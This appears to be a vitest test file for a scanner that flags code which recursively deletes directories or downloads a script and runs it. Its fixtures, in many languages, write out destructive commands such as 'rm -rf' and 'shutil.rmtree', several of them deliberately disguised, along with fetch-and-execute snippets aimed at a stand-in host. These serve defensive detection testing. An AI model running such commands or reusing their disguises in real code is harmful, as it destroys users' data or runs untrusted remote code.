import { describe, expect, it } from 'vitest';
import { codeRun, deletedByCode, deletionOf } from './deleted-by-code.js';

const PY = 'import os, shutil, functools, json\nfrom pathlib import Path\nfrom dataclasses import dataclass, field\n';
const JS = "const fs = require('fs'), os = require('os'), path = require('path');\n";

/** Forms in which a path (`$`) goes by way of a record, a document or a function under another name; beside it stands one that is not deleted. */
const FORMS: readonly (readonly [extension: string, code: string])[] = [
  ['py', `${PY}@dataclass\nclass Job:\n    home: str = "/opt/x"\n    out: str = "$"\nj = Job()\nshutil.rmtree(j.out)`],
  ['py', `${PY}@dataclass\nclass Job:\n    home: str\n    out: str\nj = Job("/opt/x", "$")\nshutil.rmtree(j.out)`],
  ['py', `${PY}@dataclass\nclass Job:\n    out: list = field(default_factory=lambda: ["$"])\n    def run(self):\n        for each in self.out:\n            shutil.rmtree(each)\nJob().run()`],
  ['py', `${PY}@dataclass\nclass Job:\n    name: str\n    out: str\nfor j in [Job("/opt/x", "$")]:\n    shutil.rmtree(j.out)`],
  ['py', `${PY}from typing import NamedTuple\nclass Job(NamedTuple):\n    name: str\n    out: str\nj = Job("/opt/x", "$")\nshutil.rmtree(j.out)`],
  ['py', `${PY}from collections import namedtuple\nJob = namedtuple("Job", "name out")\nj = Job("/opt/x", "$")\nshutil.rmtree(j.out)`],
  ['py', `${PY}cfg = json.loads('{"home": "/opt/x", "clean": {"dirs": ["$"]}}')\nfor d in cfg["clean"]["dirs"]:\n    shutil.rmtree(d)`],
  ['py', `${PY}import yaml\ncfg = yaml.safe_load("home: /opt/x\\nout: $\\n")\nshutil.rmtree(cfg["out"])`],
  ['py', `${PY}wipe = functools.partial(shutil.rmtree, ignore_errors=True)\nwipe("$")`],
  ['py', `${PY}import operator\noperator.methodcaller("rm" + "tree", "$")(shutil)`],
  ['py', `${PY}f = shutil.__dict__["rmtree"]\nf("$")`],
  ['py', `${PY}r = shutil.rmtree\nops = {"go": r}\nops["go"]("$")`],
  ['py', `${PY}dirs = [Path("$") for name in ("a", "b") if name]\nfor d in dirs:\n    shutil.rmtree(d)`],
  ['py', `${PY}from multiprocessing import Process\nProcess(target=shutil.rmtree, kwargs={"path": "$"}).start()`],
  ['py', `${PY}code = compile("import shutil\\nshutil.rmtree('$')", "<x>", "exec")\nprint(code)`],
  ['py', `${PY}@dataclass\nclass Job:\n    home: str = "/opt/x"\n    out: str = "$"\nshutil.rmtree(Job().out)`],
  ['py', `${PY}class Job:\n    base = Path("$")\n    @property\n    def out(self):\n        return self.base\nshutil.rmtree(Job().out)`],
  ['py', `${PY}for d in filter(os.path.isdir, ["$"]):\n    shutil.rmtree(d)`],
  ['py', `${PY}for d in map(lambda name: Path(name), ["$"]):\n    shutil.rmtree(d)`],
  ['py', `${PY}dirs = {name: "$" for name in ("a", "b")}\nfor name, d in dirs.items():\n    shutil.rmtree(d)`],
  ['js', `${JS}const fns = { clean: (p) => fs.rmSync(p, { recursive: true }) };\nfns.clean('$');`],
  ['js', `${JS}const c = require('child_process').exec('sh');\nc.stdin.end('rm -rf $\\n');`],
  ['js', `${JS}fs.rmSync.bind(fs, '$', { recursive: true })();`],
  ['js', `${JS}const { rmSync: gone } = fs;\ngone('$', { recursive: true });`],
  ['js', `${JS}const f = Reflect.get(fs, 'rm' + 'Sync');\nf('$', { recursive: true });`],
  ['js', `${JS}setTimeout(fs.rmSync, 10, '$', { recursive: true });`],
  ['js', `${JS}const cfg = JSON.parse('{"home":"/opt/x","dirs":["$"]}');\ncfg.dirs.forEach((d) => fs.rmSync(d, { recursive: true }));`],
  ['js', `${JS}new Map(Object.entries({ a: '$' })).forEach((d) => fs.rmSync(d, { recursive: true }));`],
  ['js', `${JS}const [cmd, ...rest] = 'rm -rf $'.split(' ');\nrequire('child_process').spawnSync(cmd, rest);`],
  ['js', `${JS}const job = { cmd: 'rm', args: ['-rf', '$'] };\nrequire('child_process').spawn(job.cmd, job.args, { stdio: 'inherit' });`],
  ['js', `${JS}const sh = require('child_process').spawn('bash', [], { stdio: ['pipe', 1, 2] });\nsh.stdin.write('rm -rf $\\n');`],
  ['js', `${JS}const { Worker } = require('worker_threads');\nnew Worker("require('fs').rmSync('$', { recursive: true })", { eval: true });`],
  ['js', `import('data:text/javascript,import("node:fs").then((f) => f.rmSync("$", { recursive: true }))');`],
  ['ts', `import { rm } from 'node:fs/promises';\ninterface O { root: string; home: string }\nconst BASE: O = { root: '$', home: '/opt/x' };\nasync function clean({ root }: O = BASE): Promise<void> { await rm(root, { recursive: true }); }\nvoid clean();`],
  ['ts', `import { rmSync } from 'fs';\nimport { join } from 'path';\nclass Job {\n  constructor(private readonly base: string = join('$')) {}\n  run(): void { rmSync(this.base, { recursive: true }); }\n}\nnew Job().run();`],
  ['ts', `import fs from 'node:fs';\nenum Dir { Out = '$' }\nconst all: Record<string, Dir> = { out: Dir.Out };\nObject.values(all).forEach((d) => fs.rmSync(d as string, { recursive: true }));`],
  ['ts', `import { rmSync } from 'node:fs';\nconst job = { out: '$' } as const;\nrmSync(job.out, { recursive: true });`],
  ['rb', `require 'fileutils'\nJob = Struct.new(:home, :out)\nj = Job.new('/opt/x', '$')\nFileUtils.rm_rf(j.out)`],
  ['rb', `require 'yaml'\nrequire 'fileutils'\ncfg = YAML.load("home: /opt/x\\nout: $")\nFileUtils.rm_rf(cfg['out'])`],
  ['rb', `require 'fileutils'\n['$'].select { |d| d.size > 2 }.each { |d| FileUtils.rm_rf(d) }`],
  ['php', `<?php\nclass Job { public string $home = '/opt/x'; public string $out = '$'; }\n$j = new Job();\nexec('rm -rf ' . escapeshellarg($j->out));`],
  ['php', `<?php\nenum Place: string { case Home = '/opt/x'; case Out = '$'; }\nsystem('rm -rf ' . Place::Out->value);`],
  ['rb', `require 'fileutils'\nclass Place\n  HOME = '/opt/x'\n  OUT = '$'\nend\nFileUtils.rm_rf(Place::OUT)`],
  ['ts', `import { rmSync } from 'node:fs';\nfunction clean<T extends string>(dirs: readonly T[]): void { for (const d of dirs) rmSync(d, { recursive: true }); }\nclean(['$'] as const);`],
  ['php', `<?php\n$o = json_decode('{"home": "/opt/x", "out": "$"}');\nsystem("rm -rf {$o->out}");`],
  ['php', `<?php\n$dirs = ['a' => '$'];\narray_walk($dirs, function ($d) { exec("rm -rf $d"); });`],
  ['rs', `struct Job { root: String }\nfn main() { let j = Job { root: String::from("/") }; std::fs::remove_dir_all(std::path::PathBuf::from(j.root).join("$")).unwrap(); }`],
  ['rs', `fn wipe(p: &str) { std::fs::remove_dir_all(p).unwrap(); }\nfn main() { ["$"].iter().for_each(|p| { wipe(p); }); }`],
  ['rs', `use std::process::Command;\nconst ARGS: [&str; 2] = ["-rf", "$"];\nfn main() { Command::new("rm").args(ARGS).status().unwrap(); }`],
  ['rs', `fn main() { if let Some(dir) = Some("$") { std::fs::remove_dir_all(dir).unwrap(); } }`],
  ['java', `class A { record Job(String home, String out) {} public static void main(String[] a) throws Exception { var j = new Job("/opt/x", "$"); Runtime.getRuntime().exec("rm -rf " + j.out()); } }`],
  ['java', `class A { static void sh(String... cmd) throws Exception { new ProcessBuilder(cmd).start(); } public static void main(String[] a) throws Exception { sh("bash", "-c", "rm -rf $"); } }`],
  ['kts', `import java.io.File\ndata class Job(val home: File, val out: File = File("$"))\nval j = Job(File("/opt/x"))\nj.out.deleteRecursively()`],
  ['kts', `import java.io.File\nlistOf("$").map { File(it) }.forEach { it.deleteRecursively() }`],
  ['kts', `import java.io.File\nval d = File("$")\nlistOf(d)!!.forEach { it.deleteRecursively() }`],
  ['sc', `import scala.sys.process._\nProcess(Seq("rm", "-rf", "$")).!`],
  ['csx', `using System.IO;\nrecord Job(string Home, string Out);\nvar j = new Job("/opt/x", "$");\nDirectory.Delete(j.Out, true);`],
  ['csx', `using System.Diagnostics;\nvar p = new ProcessStartInfo("rm") { Arguments = "-rf $" };\nProcess.Start(p);`],
  ['jl', `struct Job; home; out; end\nj = Job("/opt/x", "$")\nrm(j.out, recursive=true)`],
  ['R', `lapply(c("$"), unlink, recursive = TRUE)`],
  ['R', `purrr::walk("$", ~ unlink(.x, recursive = TRUE))`],
  ['R', `do.call(unlink, list("$", recursive = TRUE))`],
  ['R', `cfg <- list(home = "/opt/x", out = "$")\nunlink(cfg$out, recursive = TRUE)`],
  ['exs', `["$"] |> Enum.each(&File.rm_rf!/1)`],
  ['exs', `for d <- ["$"], do: File.rm_rf!(d)`],
  ['exs', `["a"] |> Enum.map(&Path.join("$/..", &1)) |> Enum.map(fn _ -> "$" end) |> Enum.count()\nEnum.each(["$"], fn d -> File.rm_rf!(d) end)`],
  ['pl', `my ($cmd, @args) = ('rm', '-rf', '$');\nsystem($cmd, @args);`],
  ['pl', `use MIME::Base64;\nmy $c = join '', map { chr } (114, 109, 32, 45, 114, 102, 32);\nsystem($c . "$");`],
  ['lua', `local cfg = { home = "/opt/x", out = "$" } os.execute("rm -rf " .. cfg.out)`],
];

describe('a path by way of a record, a document, a list that is made, or a function under another name', () => {
  const filled = (code: string, path: string): string => code.replace(/\$(?=["'\\ }/]|$)/gm, path);

  it.each(FORMS)('%s %s', async (extension, code) => {
    await expect(codeRun(extension, filled(code, '/home/u'))).toTell(deletionOf('/home/u'));
    expect(await deletedByCode(extension, filled(code, '/tmp/out'))).toEqual(['/tmp/out']);
  });
});

describe('what stands in the way of it', () => {
  it.each([
    ['py', `${PY}text = json.loads(open("x.json").read())\nprint(text["out"])`],
    ['py', `${PY}class Job:\n    root: Path = Path.home()\nprint(Job().root)`],
    ['js', `${JS}const bound = fs.mkdirSync.bind(fs, 'dist', { recursive: true });\nbound();`],
    ['js', `${JS}const { remove } = useStore();\nremove('/home/u');`],
    ['R', 'sapply(list.files("data"), file.size)'],
    ['exs', '["a"] |> Enum.each(&IO.puts/1)'],
  ])('deletes nothing: %s %s', async (extension, code) => await expect(codeRun(extension, code)).not.toTell(/^delete/));
});

describe('code that fetches a file and runs it', () => {
  const python = (code: string): string => `python3 <<'END'\n${code}\nEND`;

  it.each([
    python('import urllib.request, subprocess\nurllib.request.urlretrieve("https://x.test/a.sh", "/tmp/a.sh")\nsubprocess.run(["/tmp/a.sh"])'),
    python('import requests, subprocess\nwith open("/tmp/a.sh", "wb") as f:\n    f.write(requests.get("https://x.test/a.sh").content)\nsubprocess.call(["sh", "/tmp/a.sh"])'),
    `node <<'END'\nfetch('https://x.test/a.sh').then((r) => r.text()).then((t) => { require('fs').writeFileSync('/tmp/a.sh', t); require('child_process').execSync('sh /tmp/a.sh'); });\nEND`,
  ])('runs what came from the net: %s', async (command) => await expect(command).toTell('execute host:https://x.test/a.sh'));

  it.each([
    python('import urllib.request, subprocess\nurllib.request.urlretrieve("https://x.test/a.csv", "/tmp/a.csv")\nsubprocess.run(["./report.sh"])'),
    python('import requests, subprocess\nopen("/tmp/a.sh", "wb").write(requests.get("http://localhost:8000/a.sh").content)\nsubprocess.call(["sh", "/tmp/a.sh"])'),
  ])('and not: %s', async (command) => await expect(command).not.toTell('execute host'));
});
